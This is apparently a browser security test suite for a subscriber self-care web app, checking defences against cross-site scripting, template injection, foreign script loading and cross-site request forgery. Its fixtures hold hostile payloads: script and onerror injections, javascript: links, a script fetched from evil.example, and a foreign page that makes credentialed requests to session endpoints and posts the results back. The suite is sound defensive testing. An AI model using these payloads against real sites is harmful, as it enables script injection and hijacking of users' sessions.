"""A real browser against hostile data and hostile sites: nothing runs, nothing is fetched elsewhere, no cookie travels."""

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from selfcare_app.access import session as sessions
from selfcare_app.access.tables import WebSession
from selfcare_app.catalogue.tables import Service, TariffPlan
from selfcare_app.kit.ids import new_id
from selfcare_app.subscribers.tables import Account, Client, Line, LineService
from selfcare_app.usage.tables import Allowance
from tests.browser import Complaints, NewContext, SignedIn, hydrated
from tests.served import Served

pytestmark = pytest.mark.browser
PAGES = ("/home", "/personal", "/personal/more", "/number", "/orders", "/call-detail", "/more", "/settings/security")
IMAGE = "<img src=x onerror=\"window.__ran='image'\">"
SCRIPT = "');window.__ran='script'//<script>window.__ran='script'</script>"
LINK = "javascript:window.__ran='link'"
BRACES = "{{constructor.constructor('window.__ran=1')()}} ${window.__ran=1} {0.__class__}"
EVIL = f"{IMAGE} {SCRIPT} {LINK} {BRACES}"


@pytest.fixture(scope="module")
def evil(served: Served) -> Line:
    """A line all of whose texts are somebody's attempt."""
    line = served.world.line(user_name=EVIL, alias=EVIL, tariff_plan="evil", ip_address=LINK[:15])
    since = served.now.replace(year=served.now.year - 1)
    today = served.now.date()
    with served.db.transaction() as session:
        client = session.get_one(Client, session.get_one(Account, line.account_id).client_id)
        client.name = client.contract_number = client.email = EVIL
        session.add(TariffPlan(id=new_id(), code="evil", name=EVIL, benefits=EVIL, fee_minor=100, valid_from=since))
        session.add(Service(id=new_id(), code="evil", name=EVIL, description=EVIL, valid_from=since))
        session.add(
            LineService(id=new_id(), external_id=str(new_id()), line_id=line.id, service="evil", connected_at=since)
        )
        session.add(
            Allowance(
                id=new_id(), line_id=line.id, code="x", name=EVIL, kind="seconds", total=60, used=1,
                period_from=today.replace(day=1), period_until=today.replace(year=today.year + 1), as_of=served.now,
            )
        )  # fmt: skip
        sessions.start(
            session, line_id=line.id, method="password", address=EVIL[:60], agent=EVIL, language="", now=served.now
        )
    return line


@pytest.mark.security("asvs_1_2_1", "asvs_1_2_2", "asvs_1_2_3", "asvs_1_3_7")
def test_what_people_wrote_is_text_on_every_page(evil: Line, signed_in: SignedIn, served: Served) -> None:
    page = signed_in(evil, "/home")
    dialogs: list[str] = []
    page.on("dialog", lambda shown: (dialogs.append(shown.message), shown.dismiss()))
    seen = ""
    for path in PAGES:
        page.goto(path)
        hydrated(page)
        seen += page.locator("body").inner_text()
        hrefs = page.evaluate(
            "[...document.querySelectorAll('[href],[src],[action],[formaction]')].map((e) => "
            "['href','src','action','formaction'].map((n) => e.getAttribute(n) || '').join(' '))"
        )
        assert not [href for href in hrefs if "javascript:" in href.casefold() or "__ran" in href]
        assert page.locator("img[onerror], img[src=x]").count() == 0
        assert page.evaluate("window.__ran") is None
    assert IMAGE in seen, "the text was shown nowhere: the test looked at nothing"
    assert "{0.__class__}" in seen
    assert dialogs == []


@pytest.mark.security("asvs_3_4_3", "asvs_1_2_1")
def test_a_script_that_got_into_the_page_does_not_run(page: Page, complaints: Complaints) -> None:
    complaints.expect("content policy|Content Security Policy|Refused to|outside: https://evil.example/x.js")
    page.route("https://evil.example/**", lambda route: route.fulfill(body="window.__ran = 'foreign'"))
    page.goto("/sign-in")
    hydrated(page)
    page.evaluate(
        """() => {
          window.__refused = [];
          document.addEventListener('securitypolicyviolation', (e) => window.__refused.push(e.effectiveDirective));
          const put = (name, more) => document.body.append(Object.assign(document.createElement(name), more));
          put('script', { textContent: "window.__ran = 'inline'" });
          put('script', { src: 'https://evil.example/x.js' });
          put('script', { src: "data:text/javascript,window.__ran='data'" });
          put('form', { id: 'away', action: 'https://evil.example/', method: 'post' });
          document.getElementById('away').submit();
          document.body.insertAdjacentHTML('beforeend',
            '<img src="data:," onerror="window.__ran=1"><a id=evil href="javascript:window.__ran=2">x</a>');
          document.getElementById('evil').click();
        }"""
    )
    page.wait_for_function("() => window.__refused.length >= 6")
    assert set(page.evaluate("window.__refused")) == {"script-src-elem", "script-src-attr", "form-action"}
    assert page.evaluate("window.__ran") is None


@pytest.mark.security("asvs_3_6_1", "asvs_1_3_6")
def test_pages_fetch_from_nowhere_else(signed_in: SignedIn, evil: Line, served: Served) -> None:
    page = signed_in(evil, "/home")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("websocket", lambda socket: asked.append(socket.url))
    for path in PAGES:
        page.goto(path)
        hydrated(page)
    ours = (f"{served.url}/", served.url.replace("http", "ws", 1) + "/", "data:image/", "blob:")
    assert len(asked) > 10
    assert [url for url in asked if not url.startswith(ours)] == []
    external = page.evaluate(
        "[...document.scripts, ...document.querySelectorAll('link[href]')].map((e) => e.src || e.href)"
    )
    assert [url for url in external if url and not url.startswith(ours)] == []


@pytest.fixture
def foreign(served: Served) -> Iterator[str]:
    """Another site, whose page posts to ours and asks ours for things as soon as it is opened."""
    heard: list[str] = []
    page = f"""<!doctype html><title>gift</title>
      <form id=f method=post action="{served.url}/session/sign-out"><input name=back value=/></form>
      <script>
        const send = (path, options) => fetch('{served.url}' + path, {{ credentials: 'include', ...options }})
          .then(async (a) => fetch('/heard', {{ method: 'POST', body: path + ' ' + a.status + ' ' + await a.text() }}), () => 0);
        (async () => {{
          await send('/session/reveal', {{ method: 'POST', mode: 'no-cors' }});
          await send('/session/sign-out', {{ method: 'POST', headers: {{ 'Content-Type': 'text/plain' }}, body: 'back=/' }});
          await send('/session/sign-out', {{ method: 'POST', headers: {{ 'X-Requested-With': 'fetch' }} }});
          await send('/home', {{}});
          new Image().src = '{served.url}/session/sign-out';
          document.title = 'asked';
        }})();
      </script>"""

    class Site(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(page.encode())

        def do_POST(self) -> None:
            heard.append(self.rfile.read(int(self.headers["Content-Length"])).decode())
            self.send_response(204)
            self.end_headers()

        def log_message(self, *_given: Any) -> None:
            """Keeps the test's output clean."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://localhost:{server.server_port}/"
    server.shutdown()
    server.server_close()
    assert heard == []


@pytest.mark.security("asvs_3_3_2", "asvs_3_5_1", "asvs_3_5_2", "asvs_3_4_2", "S-01")
def test_another_site_can_neither_act_nor_read_for_the_subscriber(
    served: Served, new_context: NewContext, foreign: str, complaints: Complaints
) -> None:
    complaints.expect(".*")
    line = served.world.line()
    context = new_context()
    context.add_cookies([served.cookie(served.sign_in(line))])
    sent: list[tuple[str, bool]] = []
    context.on(
        "request", lambda r: sent.append((r.url, "cookie" in r.all_headers())) if r.url.startswith(served.url) else None
    )
    page = context.new_page()
    page.goto(foreign)
    expect(page).to_have_title("asked")
    with page.expect_response(lambda r: r.request.is_navigation_request() and r.url.startswith(served.url)):
        page.evaluate("document.getElementById('f').submit()")
    crossed = [url for url, _ in sent]
    assert len(crossed) >= 4
    with served.db.snapshot() as session:
        rows = session.query(WebSession).filter(WebSession.line_id == line.id).all()
        assert [row.ended_at for row in rows] == [None]
    page = context.new_page()
    page.goto(f"{served.url}/home")
    hydrated(page)
    assert page.url.endswith("/home")
